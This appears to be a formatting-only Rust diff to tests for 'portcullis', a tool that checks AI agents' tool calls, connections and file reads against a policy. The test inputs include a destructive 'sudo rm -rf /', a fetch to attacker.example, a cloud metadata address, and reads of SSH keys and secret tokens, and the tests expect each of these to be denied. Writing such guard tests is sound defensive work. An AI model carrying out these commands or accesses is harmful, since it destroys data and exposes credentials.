@@ -4,7 +4,8 @@ use serde_json::Value;
 
 use super::{TempDir, portcullis};
 
-const THREE_MISTAKES: &str = "[network]\nalow = [\"x.io\"]\ndeny = [\"*.\"]\n\n[tools]\nrate = { Bash = \"60/fortnight\" }\n";
+const THREE_MISTAKES: &str =
+    "[network]\nalow = [\"x.io\"]\ndeny = [\"*.\"]\n\n[tools]\nrate = { Bash = \"60/fortnight\" }\n";
 
 #[test]
 fn check_names_all_three_mistakes_with_line_and_column() {
@@ -22,11 +23,7 @@ fn check_names_all_three_mistakes_with_line_and_column() {
         "fortnight",
         "3 problems",
     ] {
-        assert!(
-            run.stderr.contains(needle),
-            "missing {needle:?} in:\n{}",
-            run.stderr
-        );
+        assert!(run.stderr.contains(needle), "missing {needle:?} in:\n{}", run.stderr);
     }
 }
 
@@ -78,37 +75,12 @@ fn explain_names_the_deciding_rule_for_each_kind_of_request() {
     )
     .unwrap();
     let cases: [(&[&str], &str, &str); 6] = [
-        (
-            &[
-                "--tool",
-                "Bash",
-                "--input",
-                r#"{"command":"git push --force origin"}"#,
-            ],
-            "deny",
-            "tools.deny[0]",
-        ),
-        (
-            &["--tool", "Bash", "--input", r#"{"command":"git status"}"#],
-            "allow",
-            "tools.allow[0]",
-        ),
-        (
-            &["--connect", "api.github.com:443"],
-            "allow",
-            "network.allow[0]",
-        ),
-        (
-            &["--connect", "evilgithub.com:443"],
-            "deny",
-            "default.network",
-        ),
+        (&["--tool", "Bash", "--input", r#"{"command":"git push --force origin"}"#], "deny", "tools.deny[0]"),
+        (&["--tool", "Bash", "--input", r#"{"command":"git status"}"#], "allow", "tools.allow[0]"),
+        (&["--connect", "api.github.com:443"], "allow", "network.allow[0]"),
+        (&["--connect", "evilgithub.com:443"], "deny", "default.network"),
         (&["--read", "secrets/token"], "deny", "filesystem.hidden[0]"),
-        (
-            &["--exec", "git", "push", "--force", "x"],
-            "deny",
-            "tools.deny[0]",
-        ),
+        (&["--exec", "git", "push", "--force", "x"], "deny", "tools.deny[0]"),
     ];
     for (args, decision, rule) in cases {
         let mut all = vec!["--policy", "p.toml"];
@@ -123,15 +95,7 @@ fn explain_names_the_deciding_rule_for_each_kind_of_request() {
 #[test]
 fn explain_without_a_policy_uses_the_builtin_default() {
     let dir = TempDir::new();
-    let v = explain_json(
-        &dir,
-        &[
-            "--tool",
-            "WebFetch",
-            "--input",
-            r#"{"url":"https://attacker.example/?k=1"}"#,
-        ],
-    );
+    let v = explain_json(&dir, &["--tool", "WebFetch", "--input", r#"{"url":"https://attacker.example/?k=1"}"#]);
     assert_eq!(v["decision"], "deny");
     assert_eq!(v["rules"][0]["id"], "default.network");
     let home = dir.path().join("home/.ssh/id_ed25519");
@@ -146,43 +110,21 @@ fn explain_jsonl_answers_each_line_and_denies_unreadable_ones() {
     let input = "\"git status\"\n{\"connect\":\"169.254.169.254:80\"}\nnot json\n\n{\"tool\":\"Bash\",\"input\":{\"command\":\"sudo rm -rf /\"}}\n";
     let run = portcullis(&["policy", "explain", "--jsonl"], dir.path(), Some(input));
     assert_eq!(run.code, 0, "{}", run.stderr);
-    let lines: Vec<Value> = run
-        .stdout
-        .lines()
-        .map(|l| serde_json::from_str(l).unwrap())
-        .collect();
+    let lines: Vec<Value> = run.stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
     assert_eq!(lines.len(), 4);
-    let decisions: Vec<&str> = lines
-        .iter()
-        .map(|l| l["decision"].as_str().unwrap())
-        .collect();
+    let decisions: Vec<&str> = lines.iter().map(|l| l["decision"].as_str().unwrap()).collect();
     assert_eq!(decisions, ["ask", "deny", "deny", "deny"]);
     assert_eq!(lines[1]["rules"][0]["id"], "builtin.network.special_ranges");
     assert_eq!(lines[2]["line"], 3);
     assert!(lines[2]["error"].as_str().unwrap().contains("not JSON"));
     assert_eq!(lines[3]["line"], 5);
-    assert!(
-        run.stderr.contains("4 requests: 0 allow, 1 ask, 3 deny"),
-        "{}",
-        run.stderr
-    );
+    assert!(run.stderr.contains("4 requests: 0 allow, 1 ask, 3 deny"), "{}", run.stderr);
 }
 
 #[test]
 fn an_unknown_agent_is_a_setup_error() {
     let dir = TempDir::new();
-    let run = portcullis(
-        &[
-            "policy",
-            "explain",
-            "--agent",
-            "nobody",
-            "--connect",
-            "x.io:443",
-        ],
-        dir.path(),
-        None,
-    );
+    let run = portcullis(&["policy", "explain", "--agent", "nobody", "--connect", "x.io:443"], dir.path(), None);
     assert_eq!(run.code, 2);
     assert!(run.stderr.contains("no agent `nobody`"), "{}", run.stderr);
 }
@@ -198,11 +140,7 @@ fn help_teaches_with_examples() {
     ] {
         let run = portcullis(args, dir.path(), None);
         assert_eq!(run.code, 0);
-        assert!(
-            run.stdout.contains("Examples:"),
-            "{args:?}:\n{}",
-            run.stdout
-        );
+        assert!(run.stdout.contains("Examples:"), "{args:?}:\n{}", run.stdout);
         assert!(run.stdout.contains("portcullis policy"), "{args:?}");
     }
 }
